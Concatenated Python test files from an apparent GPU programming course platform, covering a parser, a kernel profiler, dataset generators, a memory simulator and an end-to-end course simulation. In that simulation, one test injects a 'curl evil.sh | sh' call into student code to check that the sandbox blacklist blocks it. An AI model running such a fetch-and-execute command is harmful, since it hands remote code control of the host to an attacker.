        assert calls == [0]
        assert parser.memo_hits == 1 and parser.memo_misses == 1

    def test_memoize_left_rec_grows_the_seed(self):
        class P(ParserBase):
            START_RULE = "x"

            @memoize_left_rec
            def x(self):
                mark = self._i
                left = self.x()
                if left is not FAIL and self.punct("+") is not FAIL:
                    right = self.match_kind(TokenKind.INT)
                    if right is not FAIL:
                        return (left, right.value)
                self._i = mark
                t = self.match_kind(TokenKind.INT)
                return t.value if t is not FAIL else FAIL

        parser = P(tokenize("1 + 2 + 3"))
        assert parser.parse_translation_unit() == ((1, 2), 3)

    def test_real_parser_reports_memo_stats(self):
        parser = MiniCudaParser(tokenize("int main() { return a[0] + b.x; }"))
        parser.parse_translation_unit()
        assert parser.memo_misses > 0
        assert parser.memo_hits > 0


class TestFreshness:
    def test_checked_in_parser_gen_is_fresh(self):
        """CI invariant: parser_gen.py == generator(minicuda.gram)."""
        expected = generate_parser_source(
            (PKG_DIR / "minicuda.gram").read_text())
        assert (PKG_DIR / "parser_gen.py").read_text() == expected

    def test_check_cli_reports_fresh(self, capsys):
        from repro.minicuda.pegen.__main__ import main

        assert main(["--check"]) == 0
        assert "up to date" in capsys.readouterr().out
