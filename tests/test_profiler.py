"""The per-source-line kernel profiler: data layer, budgets, worker
integration, exemplar store, and the profile-guided feedback rules.

Engine parity of the ledgers themselves is pinned in
``tests/test_profiler_parity.py``; this file covers everything around
the ledger — serialization, merging, heat ranking, line budgets, the
worker's CAS caching, the telemetry exemplar loop, and the dashboard
surfaces.
"""

from __future__ import annotations

import pytest

from repro.cache.cas import ContentAddressedStore
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import DatasetOutcome, Job, JobKind
from repro.core.feedback import FeedbackEngine
from repro.labs import get_lab
from repro.labs.base import LabDefinition, execute_lab_source
from repro.profiler import (
    LINE_COUNTER_FIELDS,
    BudgetViolation,
    LineBudget,
    LineCounters,
    LineProfile,
    check_line_budgets,
    merge_stats_profiles,
    render_annotated,
)
from repro.telemetry import STAGES, ExemplarStore, Telemetry, TraceContext
from repro.web.views import render_profile_view

VECADD = get_lab("vector-add")
MATMUL = get_lab("tiled-matmul")


# -- data layer --------------------------------------------------------------

class TestLineCounters:
    def test_field_vocabulary_matches_dataclass(self):
        c = LineCounters()
        assert all(hasattr(c, field) for field in LINE_COUNTER_FIELDS)

    def test_add_sums_every_field(self):
        a = LineCounters(instructions=3, bank_conflicts=1)
        b = LineCounters(instructions=2, atomic_ops=5)
        a.add(b)
        assert a.instructions == 5
        assert a.bank_conflicts == 1
        assert a.atomic_ops == 5

    def test_heat_weights_memory_over_alu(self):
        alu = LineCounters(instructions=8)
        mem = LineCounters(global_load_transactions=8)
        assert mem.heat() > alu.heat()

    def test_to_dict_drops_zeros_and_round_trips(self):
        c = LineCounters(instructions=4, divergent_branches=2)
        d = c.to_dict()
        assert set(d) == {"instructions", "divergent_branches"}
        assert LineCounters.from_dict(d) == c


class TestLineProfile:
    def make(self):
        p = LineProfile()
        p.bump("instructions", {5: 100})
        p.bump("global_load_transactions", {5: 4})
        p.bump("instructions", {9: 10})
        p.bump("atomic_ops", {9: 3})
        return p

    def test_bump_and_counters(self):
        p = self.make()
        assert p.counters(5).instructions == 100
        assert p.counters(9).atomic_ops == 3
        assert p.counters(123).instructions == 0  # untouched line

    def test_merge_is_additive(self):
        a, b = self.make(), self.make()
        a.merge(b)
        assert a.counters(5).instructions == 200
        assert a.counters(9).atomic_ops == 6

    def test_top_lines_ranked_by_heat(self):
        p = self.make()
        ranked = [line for line, _ in p.top_lines(5)]
        # line 5: 100 + 4*8 = 132 heat; line 9: 10 + 3*30 = 100
        assert ranked == [5, 9]

    def test_json_round_trip_and_equality(self):
        p = self.make()
        clone = LineProfile.from_json(p.to_json())
        assert clone == p
        clone.bump("instructions", {5: 1})
        assert clone != p

    def test_merge_stats_profiles(self):
        class FakeStats:
            def __init__(self, profile):
                self.line_profile = profile

        merged = merge_stats_profiles([FakeStats(self.make()),
                                       FakeStats(self.make())])
        assert merged.counters(5).instructions == 200
        assert merge_stats_profiles([FakeStats(None)]) is None
        assert merge_stats_profiles([]) is None


class TestBudgets:
    SOURCE = "int a;\nfor (int k = 0; k < n; k++) {\n  x += g[k];\n}\n"

    def test_violation_reported_with_line(self):
        p = LineProfile()
        p.bump("global_load_transactions", {3: 12})
        budgets = (LineBudget(r"g\[k\]", "global_load_transactions", 0,
                              message="hoist the load out of the loop"),)
        violations = check_line_budgets(budgets, p, self.SOURCE)
        assert len(violations) == 1
        v = violations[0]
        assert (v.line, v.counter, v.value, v.max_value) == (
            3, "global_load_transactions", 12, 0)
        assert "hoist" in v.describe()

    def test_within_budget_is_clean(self):
        p = LineProfile()
        p.bump("global_load_transactions", {3: 2})
        budgets = (LineBudget(r"g\[k\]", "global_load_transactions", 4),)
        assert check_line_budgets(budgets, p, self.SOURCE) == []

    def test_non_matching_pattern_ignores_hot_lines(self):
        p = LineProfile()
        p.bump("global_load_transactions", {3: 99})
        budgets = (LineBudget(r"never_matches", "global_load_transactions",
                              0),)
        assert check_line_budgets(budgets, p, self.SOURCE) == []


class TestRenderAnnotated:
    def test_listing_marks_hot_lines(self):
        p = LineProfile()
        p.bump("instructions", {2: 50})
        p.bump("bank_conflicts", {2: 9})
        text = render_annotated("int a;\nx = s[t];\nint b;", p, top=2)
        assert "x = s[t];" in text
        assert "50" in text and "9" in text


# -- end-to-end ledgers from the lab harness ---------------------------------

class TestExecuteLabProfiled:
    def test_profiled_run_attaches_ledger(self):
        data = VECADD.dataset(0)
        result = execute_lab_source(VECADD, VECADD.solution, data,
                                    profile=True)
        assert result.passed
        assert result.line_profile is not None
        assert result.line_profile.total_instructions > 0
        assert result.fingerprint

    def test_unprofiled_run_has_no_ledger(self):
        data = VECADD.dataset(0)
        result = execute_lab_source(VECADD, VECADD.solution, data)
        assert result.passed
        assert result.line_profile is None


# -- worker integration: ledger on the outcome, CAS caching, budgets ---------

def _profiled_worker(cas=None, lab_override=None):
    clock = ManualClock()
    return GpuWorker(WorkerConfig(line_profile=True), clock=clock,
                     name="prof-worker", profile_cas=cas)


class TestWorkerProfileIntegration:
    def test_outcome_carries_ledger(self):
        worker = _profiled_worker()
        job = Job(lab=VECADD, source=VECADD.solution,
                  kind=JobKind.RUN_DATASET, dataset_index=0)
        result = worker.process(job)
        assert result.all_correct
        outcome = result.datasets[0]
        assert outcome.line_profile is not None
        assert outcome.line_profile.total_instructions > 0

    def test_profiling_off_keeps_outcome_clean(self):
        worker = GpuWorker(WorkerConfig(), clock=ManualClock())
        result = worker.process(Job(lab=VECADD, source=VECADD.solution))
        assert result.datasets[0].line_profile is None
        assert result.datasets[0].profile_address == ""

    def test_profile_cached_in_cas_by_fingerprint(self):
        cas = ContentAddressedStore()
        worker = _profiled_worker(cas=cas)
        job = Job(lab=VECADD, source=VECADD.solution)
        first = worker.process(job)
        address = first.datasets[0].profile_address
        assert address and cas.contains(address)
        assert worker.profile_cache_hits == 0
        # identical source → identical fingerprint → cache hit, and
        # the stored bytes round-trip to the same ledger
        second = worker.process(Job(lab=VECADD, source=VECADD.solution))
        assert second.datasets[0].profile_address == address
        assert worker.profile_cache_hits == 1
        fingerprint = _fingerprint_of(worker, job)
        cached = worker.cached_profile(fingerprint, VECADD.slug, 0)
        assert cached == first.datasets[0].line_profile

    def test_budget_violations_flow_to_outcome(self):
        budgets = (LineBudget(r"in1\[i\]\s*\+\s*in2\[i\]",
                              "global_load_transactions", 0,
                              message="no loads on the add line"),)
        lab = LabDefinition(
            slug=VECADD.slug, title=VECADD.title,
            description=VECADD.description, skeleton=VECADD.skeleton,
            solution=VECADD.solution, generator=VECADD.generator,
            dataset_sizes=(VECADD.dataset_sizes[0],),
            mode=VECADD.mode, line_budgets=budgets)
        worker = _profiled_worker()
        result = worker.process(Job(lab=lab, source=lab.solution))
        outcome = result.datasets[0]
        assert outcome.budget_violations
        assert isinstance(outcome.budget_violations[0], BudgetViolation)


def _fingerprint_of(worker, job):
    """The fingerprint the worker keyed the profile CAS entry with."""
    ((fingerprint, _slug, _idx),) = [
        k for k in worker._profile_index
        if k[1] == job.lab.slug]
    return fingerprint


# -- telemetry: exemplar store + explicit-zero summaries ---------------------

class TestExemplarStore:
    def ctx(self, n):
        return TraceContext(trace_id=f"trace-{n}", span_id=f"span-{n}")

    def test_percentile_validated(self):
        with pytest.raises(ValueError):
            ExemplarStore(percentile=1.5)

    def test_first_observation_seeds_slot(self):
        store = ExemplarStore()
        assert store.offer("exec", "untagged", 0.5, self.ctx(1))
        assert len(store) == 1
        rec = store.exemplar("exec")
        assert rec["trace_id"] == "trace-1"
        assert rec["seconds"] == 0.5

    def test_no_trace_never_stored(self):
        store = ExemplarStore()
        assert not store.offer("exec", "untagged", 0.5, None)
        assert len(store) == 0

    def test_tail_sampling_via_record_stage(self):
        t = Telemetry(exemplar_percentile=0.95)
        # 20 cheap observations then one tail observation: the cheap
        # bucket holds one exemplar (at-percentile observations refresh
        # the slot) and the tail observation gets its own bucket
        t.record_stage("exec", 0.010, trace=self.ctx(0))
        for i in range(1, 20):
            t.record_stage("exec", 0.010, trace=self.ctx(i))
        t.record_stage("exec", 5.0, trace=self.ctx(99))
        tail = t.exemplars.exemplar("exec")
        assert tail["trace_id"] == "trace-99"
        stored_ids = {rec["trace_id"] for rec in t.exemplars.snapshot()}
        assert stored_ids == {"trace-19", "trace-99"}
        # once the tail dominates the distribution, cheap observations
        # below the percentile are rejected outright
        assert not t.exemplars.offer(
            "exec", "untagged", 0.010, self.ctx(7),
            t.metrics.histogram("webgpu_stage_seconds").series(
                stage="exec", tag="untagged"))

    def test_low_percentile_keeps_more(self):
        t = Telemetry(exemplar_percentile=0.0)
        for i in range(5):
            t.record_stage("exec", 0.01 * (i + 1), trace=self.ctx(i))
        # percentile 0 admits everything; same bucket slots overwrite
        assert len(t.exemplars) >= 1
        assert t.exemplars.for_stage("exec")

    def test_merge_keeps_slower_exemplar(self):
        a, b = ExemplarStore(), ExemplarStore()
        a.offer("exec", "untagged", 0.010, self.ctx(1))
        b.offer("exec", "untagged", 0.0101, self.ctx(2))  # same bucket
        a.merge(b)
        assert a.exemplar("exec")["trace_id"] == "trace-2"


class TestStageSummaryExplicitZeros:
    def test_every_stage_present_without_observations(self):
        summary = Telemetry().stage_summary()
        assert set(summary) == set(STAGES)
        assert all(s["count"] == 0 for s in summary.values())

    def test_by_tag_emits_zero_rows_for_unobserved_pairs(self):
        t = Telemetry()
        t.record_stage("exec", 1.0, tag="mpi")
        t.record_stage("compile", 0.5, tag="untagged")
        by_tag = t.stage_summary(by_tag=True)
        # every stage × every known tag, zeros where never observed
        for stage in STAGES:
            assert set(by_tag[stage]["tags"]) == {"mpi", "untagged"}
        assert by_tag["exec"]["tags"]["mpi"]["count"] == 1
        assert by_tag["exec"]["tags"]["untagged"]["count"] == 0
        assert by_tag["queue_wait"]["tags"]["mpi"]["count"] == 0


# -- profile-guided feedback -------------------------------------------------

class TestLineFeedback:
    def outcome(self, profile=None, violations=()):
        return DatasetOutcome(dataset_index=0, outcome="ok", correct=True,
                              line_profile=profile,
                              budget_violations=violations)

    def test_budget_violation_becomes_advice(self):
        v = BudgetViolation(line=7, counter="global_load_transactions",
                            value=12, max_value=0,
                            message="hoist the load")
        engine = FeedbackEngine()
        items = engine._line_feedback(self.outcome(violations=(v,)))
        assert any("line 7" in f.message and "hoist" in f.message
                   for f in items)

    def test_bank_conflict_hot_line_named(self):
        p = LineProfile()
        p.bump("shared_accesses", {11: 512})
        p.bump("bank_conflicts", {11: 300})
        items = FeedbackEngine()._line_feedback(self.outcome(profile=p))
        assert any("Line 11" in f.message and "bank-conflict" in f.message
                   for f in items)

    def test_divergent_branch_named(self):
        p = LineProfile()
        p.bump("instructions", {4: 10})
        p.bump("divergent_branches", {4: 64})
        items = FeedbackEngine()._line_feedback(self.outcome(profile=p))
        assert any("line 4" in f.message and "diverged" in f.message
                   for f in items)

    def test_quiet_profile_produces_no_noise(self):
        p = LineProfile()
        p.bump("instructions", {2: 100})
        assert FeedbackEngine()._line_feedback(self.outcome(profile=p)) == []


# -- dashboard surface -------------------------------------------------------

class TestProfileView:
    def test_annotated_heat_view_renders(self):
        data = MATMUL.dataset(0)
        result = execute_lab_source(MATMUL, MATMUL.solution, data,
                                    profile=True)
        html = render_profile_view(MATMUL, MATMUL.solution,
                                   result.line_profile)
        assert "Hottest lines" in html
        assert "Annotated source" in html
        assert "rgba(255,80,0" in html  # heat shading present

    def test_empty_state(self):
        html = render_profile_view(MATMUL, MATMUL.solution, None)
        assert "No profiled kernel launches yet" in html
