"""libwb equivalent: dataset generators, comparison, offline harness."""

import numpy as np
import pytest

from repro.labs import get_lab
from repro.wb import compare_solution, generators, run_offline
from repro.wb.datasets import GeneratedData


class TestGenerators:
    def test_all_registered_generators_produce_data(self):
        for name, gen in generators.items():
            data = gen(seed=1, size=16)
            assert isinstance(data, GeneratedData)
            assert isinstance(data.expected, np.ndarray)

    def test_deterministic_by_seed(self):
        a = generators["vector_add"](seed=7, size=32)
        b = generators["vector_add"](seed=7, size=32)
        c = generators["vector_add"](seed=8, size=32)
        assert np.array_equal(a.expected, b.expected)
        assert not np.array_equal(a.expected, c.expected)

    def test_vector_add_expected_is_sum(self):
        d = generators["vector_add"](seed=1, size=10)
        assert np.allclose(d.expected, d.inputs["input0"] + d.inputs["input1"])

    def test_matmul_shapes_compatible(self):
        d = generators["matmul"](seed=3, size=6)
        a, b = d.inputs["input0"], d.inputs["input1"]
        assert a.shape[1] == b.shape[0]
        assert np.allclose(d.expected, a @ b, atol=1e-4)

    def test_scan_expected_is_cumsum(self):
        d = generators["scan"](seed=1, size=20)
        assert np.allclose(d.expected, np.cumsum(d.inputs["input0"]),
                           rtol=1e-5)

    def test_spmv_csr_is_consistent(self):
        d = generators["spmv"](seed=1, size=12)
        row_ptr = d.inputs["input0"]
        col_idx = d.inputs["input1"]
        values = d.inputs["input2"]
        x = d.inputs["input3"]
        n = len(x)
        dense = np.zeros((n, n), dtype=np.float64)
        for i in range(n):
            for j in range(row_ptr[i], row_ptr[i + 1]):
                dense[i, col_idx[j]] = values[j]
        assert np.allclose(dense @ x, d.expected, atol=1e-3)
        assert row_ptr[0] == 0 and row_ptr[-1] == len(col_idx)

    def test_bfs_graph_is_symmetric_and_levels_valid(self):
        d = generators["bfs"](seed=2, size=12)
        row_ptr, col_idx = d.inputs["input0"], d.inputs["input1"]
        levels = d.expected
        assert levels[0] == 0
        assert (levels >= 0).all()  # ring guarantees connectivity
        # every edge's endpoints differ by at most one level
        for u in range(12):
            for j in range(row_ptr[u], row_ptr[u + 1]):
                v = col_idx[j]
                assert abs(levels[u] - levels[v]) <= 1

    def test_binning_averages_bounded(self):
        d = generators["binning"](seed=1, size=64)
        assert ((d.expected >= 0) & (d.expected <= 1)).all()

    def test_image_equalization_range(self):
        d = generators["image_equalization"](seed=1, size=16)
        assert d.expected.min() >= 0 and d.expected.max() <= 255


class TestComparison:
    def test_exact_match(self):
        result = compare_solution(np.ones(5), np.ones(5))
        assert result.correct and result.mismatched == 0
        assert result.report() == "Solution is correct."

    def test_tolerance_accepts_float_noise(self):
        expected = np.ones(5)
        actual = expected + 1e-5
        assert compare_solution(expected, actual).correct

    def test_mismatch_reporting(self):
        expected = np.zeros((2, 3))
        actual = expected.copy()
        actual[1, 2] = 5.0
        result = compare_solution(expected, actual)
        assert not result.correct
        assert result.mismatched == 1
        assert result.mismatches[0].index == (1, 2)
        assert "Expecting 0" in result.report()

    def test_mismatch_report_truncated(self):
        result = compare_solution(np.zeros(100), np.ones(100))
        assert result.mismatched == 100
        assert "more mismatch" in result.report()

    def test_size_mismatch(self):
        result = compare_solution(np.zeros(4), np.zeros(5))
        assert not result.correct
        assert "5 element(s)" in result.message

    def test_missing_solution(self):
        result = compare_solution(np.zeros(4), None)
        assert not result.correct
        assert "wbSolution" in result.message

    def test_nan_matches_nan(self):
        data = np.array([1.0, np.nan])
        assert compare_solution(data, data.copy()).correct


class TestOfflineHarness:
    def test_solution_passes_offline(self):
        lab = get_lab("vector-add")
        result = run_offline(lab.solution, lab.dataset(0))
        assert result.passed
        assert result.kernel_seconds > 0

    def test_wrong_code_fails_offline(self):
        lab = get_lab("vector-add")
        wrong = lab.solution.replace("in1[i] + in2[i]", "in1[i] * in2[i]")
        result = run_offline(wrong, lab.dataset(0))
        assert not result.passed
        assert result.compare.mismatched > 0

    def test_compile_error_propagates_raw(self):
        from repro.minicuda import CompileError
        lab = get_lab("vector-add")
        with pytest.raises(CompileError):
            run_offline(lab.solution.replace("int i =", "int i"),
                        lab.dataset(0))
