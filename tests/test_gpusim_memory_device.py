"""GPU memory model, device limits, launch validation."""

import numpy as np
import pytest

from repro.gpusim import (
    Device,
    DeviceBuffer,
    DeviceSpec,
    Dim3,
    FERMI_C2050,
    Idx3,
    InvalidPointerError,
    KEPLER_K20,
    LaunchConfigError,
    OutOfBoundsError,
    OutOfMemoryError,
    PASCAL_P100,
    SharedArray,
    dim3,
)


class TestDim3:
    def test_rejects_zero(self):
        with pytest.raises(ValueError):
            Dim3(0, 1, 1)

    def test_count(self):
        assert Dim3(4, 2, 3).count == 24

    def test_linear_index_x_fastest(self):
        d = Dim3(4, 4, 2)
        assert d.linear_index(1, 0, 0) == 1
        assert d.linear_index(0, 1, 0) == 4
        assert d.linear_index(0, 0, 1) == 16

    def test_iter_points_order(self):
        pts = list(Dim3(2, 2, 1).iter_points())
        assert pts == [(0, 0, 0), (1, 0, 0), (0, 1, 0), (1, 1, 0)]

    def test_coercion(self):
        assert dim3(5) == Dim3(5, 1, 1)
        assert dim3((2, 3)) == Dim3(2, 3, 1)
        assert dim3(Dim3(1, 2, 3)) == Dim3(1, 2, 3)

    def test_idx3_allows_zero_but_not_negative(self):
        Idx3(0, 0, 0)
        with pytest.raises(ValueError):
            Idx3(-1, 0, 0)


class TestDeviceBuffer:
    def test_read_write(self):
        buf = DeviceBuffer(4, "float")
        buf.write(2, 3.5)
        assert buf.read(2) == pytest.approx(3.5)

    def test_bounds_check_like_memcheck(self):
        buf = DeviceBuffer(4, "int")
        with pytest.raises(OutOfBoundsError):
            buf.read(4)
        with pytest.raises(OutOfBoundsError):
            buf.write(-1, 0)

    def test_use_after_free(self):
        device = Device()
        buf = device.malloc(4, "float")
        device.free(buf)
        with pytest.raises(InvalidPointerError):
            buf.read(0)

    def test_read_only_buffer(self):
        buf = DeviceBuffer(4, "float", read_only=True)
        with pytest.raises(OutOfBoundsError, match="read-only"):
            buf.write(0, 1.0)

    def test_pointer_arithmetic(self):
        buf = DeviceBuffer(10, "float")
        buf.write(7, 1.5)
        ptr = buf.ptr(5) + 2
        assert ptr.read(0) == pytest.approx(1.5)
        assert (ptr - 2).offset == 5

    def test_byte_addresses_distinct_per_allocation(self):
        a, b = DeviceBuffer(4, "float"), DeviceBuffer(4, "float")
        assert a.byte_address(0) != b.byte_address(0)
        assert a.byte_address(1) - a.byte_address(0) == 4

    def test_ctype_dtype_mapping(self):
        assert DeviceBuffer(1, "double").dtype == np.float64
        assert DeviceBuffer(1, "unsigned char").dtype == np.uint8


class TestSharedArray:
    def test_bank_mapping_floats(self):
        arr = SharedArray("s", 64, "float")
        assert arr.bank(0) == 0
        assert arr.bank(1) == 1
        assert arr.bank(32) == 0  # wraps at 32 banks

    def test_bounds(self):
        arr = SharedArray("s", 8, "int")
        with pytest.raises(OutOfBoundsError):
            arr.read(8)


class TestDevice:
    def test_oom(self):
        device = Device(DeviceSpec(
            name="tiny", compute_capability=(3, 0), num_sms=1,
            global_mem_bytes=64))
        with pytest.raises(OutOfMemoryError):
            device.malloc(1024, "float")

    def test_allocation_accounting(self):
        device = Device()
        buf = device.malloc(1000, "float")
        assert device.bytes_allocated == 4000
        device.free(buf)
        assert device.bytes_allocated == 0
        assert device.peak_bytes_allocated == 4000

    def test_double_free(self):
        device = Device()
        buf = device.malloc(4, "float")
        device.free(buf)
        with pytest.raises(InvalidPointerError):
            device.free(buf)

    def test_launch_validation_threads_per_block(self):
        device = Device()
        with pytest.raises(LaunchConfigError):
            device.validate_launch(Dim3(1), Dim3(2048))

    def test_launch_validation_block_dim_z(self):
        device = Device()
        with pytest.raises(LaunchConfigError, match="blockDim.z"):
            device.validate_launch(Dim3(1), Dim3(1, 1, 128))

    def test_launch_validation_grid_dim(self):
        device = Device()
        with pytest.raises(LaunchConfigError, match="gridDim.y"):
            device.validate_launch(Dim3(1, 100000), Dim3(32))

    def test_launch_validation_shared_mem(self):
        device = Device()
        with pytest.raises(LaunchConfigError, match="shared"):
            device.validate_launch(Dim3(1), Dim3(32),
                                   shared_bytes=1024 * 1024)

    def test_properties_match_spec(self):
        props = Device(PASCAL_P100).properties()
        assert props.name == "Pascal P100"
        assert props.multiprocessor_count == 56
        assert props.warp_size == 32

    def test_spec_presets_ordering(self):
        # newer generations have more peak compute
        assert PASCAL_P100.peak_gflops > KEPLER_K20.peak_gflops \
            > FERMI_C2050.peak_gflops
