"""End-to-end integration: a small course offering on both platforms.

Models a realistic week: students with different skill levels work on
a lab — one solves it, one submits a buggy kernel, one tries to attack
the worker — while the instructor monitors through the roster and
overrides a grade.
"""

import pytest

from repro.cluster import ManualClock, WorkerConfig
from repro.core import Role, WebGPU, WebGPU2
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.web import Request, WebGpuApp

VECADD = get_lab("vector-add")
TILED = get_lab("tiled-matmul")


@pytest.mark.parametrize("platform_cls", [WebGPU, WebGPU2],
                         ids=["v1", "v2"])
def test_course_week(platform_cls):
    clock = ManualClock()
    exported = []
    platform = platform_cls(clock=clock, num_workers=2,
                            grade_exporter=exported.append)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015,
                       deadlines={"vector-add": 7 * 86400.0}),
        ["vector-add", "tiled-matmul"])
    prof = platform.users.register("hwu@illinois.edu", "Prof", "pw",
                                   role=Role.INSTRUCTOR)

    ana = platform.users.register("ana@x.com", "Ana", "pw")
    bob = platform.users.register("bob@x.com", "Bob", "pw")
    eve = platform.users.register("eve@x.com", "Eve", "pw")
    for user in (ana, bob, eve):
        course.enroll(user.user_id)

    # --- Ana solves the lab incrementally -------------------------------
    platform.save_code("HPP-2015", ana, "vector-add", VECADD.skeleton)
    clock.advance(600)
    attempt = platform.compile_code("HPP-2015", ana, "vector-add")
    assert attempt.compile_ok  # the skeleton compiles
    platform.save_code("HPP-2015", ana, "vector-add", VECADD.solution)
    clock.advance(600)
    attempt = platform.run_attempt("HPP-2015", ana, "vector-add", 0)
    assert attempt.correct
    platform.answer_question("HPP-2015", ana, "vector-add", 0,
                             "because the last block is partial")
    clock.advance(600)
    _, grade = platform.submit_for_grading("HPP-2015", ana, "vector-add")
    assert grade.total_points == 100.0

    # --- Bob's kernel has an off-by-one; partial credit ------------------
    buggy = VECADD.solution.replace("i < len", "i <= len")
    platform.save_code("HPP-2015", bob, "vector-add", buggy)
    clock.advance(600)
    attempt = platform.run_attempt("HPP-2015", bob, "vector-add", 0)
    assert not attempt.correct  # out-of-bounds faulted, caught by memcheck
    clock.advance(600)
    _, bob_grade = platform.submit_for_grading("HPP-2015", bob,
                                               "vector-add")
    assert bob_grade.total_points < grade.total_points

    # --- Eve tries to escape the sandbox ---------------------------------
    evil = VECADD.solution.replace(
        "cudaDeviceSynchronize();",
        'cudaDeviceSynchronize(); system("curl evil.sh | sh");')
    platform.save_code("HPP-2015", eve, "vector-add", evil)
    clock.advance(600)
    attempt = platform.compile_code("HPP-2015", eve, "vector-add")
    assert not attempt.compile_ok
    assert "blacklisted" in attempt.report

    # --- the instructor reviews ------------------------------------------
    roster = platform.instructor_tools.roster(prof, "vector-add")
    assert {row.email for row in roster} == {"ana@x.com", "bob@x.com",
                                             "eve@x.com"}
    detail = platform.instructor_tools.student_detail(prof, bob.user_id,
                                                      "vector-add")
    assert len(detail["attempts"]) == 2
    platform.instructor_tools.comment(
        prof, bob.user_id, "vector-add",
        "boundary check should be strict <", now=clock.now())
    platform.instructor_tools.override_grade(
        prof, bob.user_id, "vector-add", 50.0, "manual partial credit",
        now=clock.now())
    assert platform.gradebook.get(bob.user_id,
                                  "vector-add").total_points == 50.0

    # grades were exported to the external gradebook (Coursera role)
    assert len(exported) >= 2

    # --- peer review over submitters --------------------------------------
    submitters = [ana.user_id, bob.user_id]
    platform.peer_review.assign("vector-add", submitters)
    for reviewer in submitters:
        for assignment in platform.peer_review.assignments_for(
                "vector-add", reviewer):
            platform.peer_review.complete(assignment.assignment_id, "ok")
    assert platform.peer_review.completion_credit(
        "vector-add", ana.user_id) == 1.0


def test_browser_session_through_the_stack():
    """Drive the v1 platform purely through HTTP-level requests."""
    clock = ManualClock()
    platform = WebGPU(clock=clock, num_workers=1)
    course = platform.create_course(
        CourseOffering(code="408", year=2015), ["tiled-matmul"])
    stu = platform.users.register("s@illinois.edu", "Student", "pw")
    course.enroll(stu.user_id)
    app = WebGpuApp(platform, "408-2015")

    token = app.handle(Request("POST", "/login", form={
        "email": "s@illinois.edu", "password": "pw"})).body

    # read the lab manual
    desc = app.handle(Request("GET", "/lab/tiled-matmul/description",
                              session_token=token))
    assert "Tiled Matrix Multiplication" in desc.body

    # paste in the solution and run dataset 1
    app.handle(Request("POST", "/lab/tiled-matmul/code",
                       form={"source": TILED.solution},
                       session_token=token))
    clock.advance(60)
    run = app.handle(Request("POST", "/lab/tiled-matmul/run",
                             form={"dataset": "1"}, session_token=token))
    assert run.body.startswith("correct")

    # submit and confirm grade + stored attempts + history all visible
    clock.advance(60)
    submit = app.handle(Request("POST", "/lab/tiled-matmul/submit",
                                session_token=token))
    assert "grade:" in submit.body
    attempts = app.handle(Request("GET", "/lab/tiled-matmul/attempts",
                                  session_token=token))
    assert attempts.body.count("<tr>") >= 2
    history = app.handle(Request("GET", "/lab/tiled-matmul/history",
                                 session_token=token))
    assert "matrixMultiplyShared" in history.body


def test_v2_heterogeneous_fleet_serves_mixed_course():
    """PUMPS-style offering: CUDA, OpenCL and MPI labs on a mixed fleet."""
    clock = ManualClock()
    platform = WebGPU2(clock=clock, num_workers=0)
    platform.add_worker(WorkerConfig(tags=frozenset({"cuda"})))
    platform.add_worker(WorkerConfig(tags=frozenset({"cuda", "opencl",
                                                     "mpi"}), num_gpus=4))
    course = platform.create_course(
        CourseOffering(code="PUMPS", year=2015),
        ["vector-add", "opencl-vecadd", "mpi-stencil"])
    stu = platform.users.register("s@upc.edu", "Attendee", "pw")
    course.enroll(stu.user_id)

    for slug in ("vector-add", "opencl-vecadd", "mpi-stencil"):
        lab = get_lab(slug)
        platform.save_code("PUMPS-2015", stu, slug, lab.solution)
        clock.advance(120)
        attempt = platform.run_attempt("PUMPS-2015", stu, slug)
        assert attempt.correct, (slug, attempt.report)

    # the tagged labs must have run on the capable node
    jobs = platform.metrics.primary.find("worker_metrics", event="job")
    by_lab = {row["payload"]["lab"]: row["worker"] for row in jobs}
    assert by_lab["opencl-vecadd"] == by_lab["mpi-stencil"]
