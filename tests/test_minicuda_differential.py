"""Differential testing: random C expressions through the full
compiler+interpreter vs a direct C-semantics evaluator.

Hypothesis builds random expression trees; we render them to C source,
compile and run it, and compare against evaluating the same tree with
the reference semantics (trunc-toward-zero division, C modulo, shifts,
bitwise ops, short-circuit logicals). Any disagreement is a parser
precedence bug, an interpreter bug, or both.
"""

from __future__ import annotations

from dataclasses import dataclass

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.gpusim import Device, GpuRuntime
from repro.minicuda import HostEnv, compile_source
from repro.minicuda.interpreter import _c_div, _c_mod


# -- expression trees -------------------------------------------------------

@dataclass(frozen=True)
class Lit:
    value: int

    def render(self) -> str:
        return str(self.value)

    def evaluate(self) -> int:
        return self.value


@dataclass(frozen=True)
class Unary:
    op: str
    operand: "Node"

    def render(self) -> str:
        # the space matters: "--1" would lex as the decrement operator,
        # exactly as in real C
        return f"({self.op} {self.operand.render()})"

    def evaluate(self) -> int:
        value = self.operand.evaluate()
        if self.op == "-":
            return -value
        if self.op == "~":
            return ~value
        if self.op == "!":
            return int(value == 0)
        raise AssertionError(self.op)


@dataclass(frozen=True)
class Binary:
    op: str
    left: "Node"
    right: "Node"

    def render(self) -> str:
        return f"({self.left.render()} {self.op} {self.right.render()})"

    def evaluate(self) -> int:
        a = self.left.evaluate()
        if self.op == "&&":
            return int(a != 0 and self.right.evaluate() != 0)
        if self.op == "||":
            return int(a != 0 or self.right.evaluate() != 0)
        b = self.right.evaluate()
        if self.op == "+":
            return a + b
        if self.op == "-":
            return a - b
        if self.op == "*":
            return a * b
        if self.op == "/":
            return _c_div(a, b if b != 0 else 1)
        if self.op == "%":
            return _c_mod(a, b if b != 0 else 1)
        if self.op == "<<":
            return a << (abs(b) % 8)
        if self.op == ">>":
            return a >> (abs(b) % 8)
        if self.op == "&":
            return a & b
        if self.op == "|":
            return a | b
        if self.op == "^":
            return a ^ b
        if self.op == "<":
            return int(a < b)
        if self.op == "<=":
            return int(a <= b)
        if self.op == ">":
            return int(a > b)
        if self.op == ">=":
            return int(a >= b)
        if self.op == "==":
            return int(a == b)
        if self.op == "!=":
            return int(a != b)
        if self.op == "?":  # pragma: no cover - handled by Ternary
            raise AssertionError
        raise AssertionError(self.op)

    def render_safe(self) -> str:
        """Division/modulo guarded against zero; shifts bounded."""
        raise NotImplementedError


@dataclass(frozen=True)
class Ternary:
    cond: "Node"
    then: "Node"
    otherwise: "Node"

    def render(self) -> str:
        return (f"({self.cond.render()} ? {self.then.render()} "
                f": {self.otherwise.render()})")

    def evaluate(self) -> int:
        if self.cond.evaluate() != 0:
            return self.then.evaluate()
        return self.otherwise.evaluate()


Node = Lit | Unary | Binary | Ternary

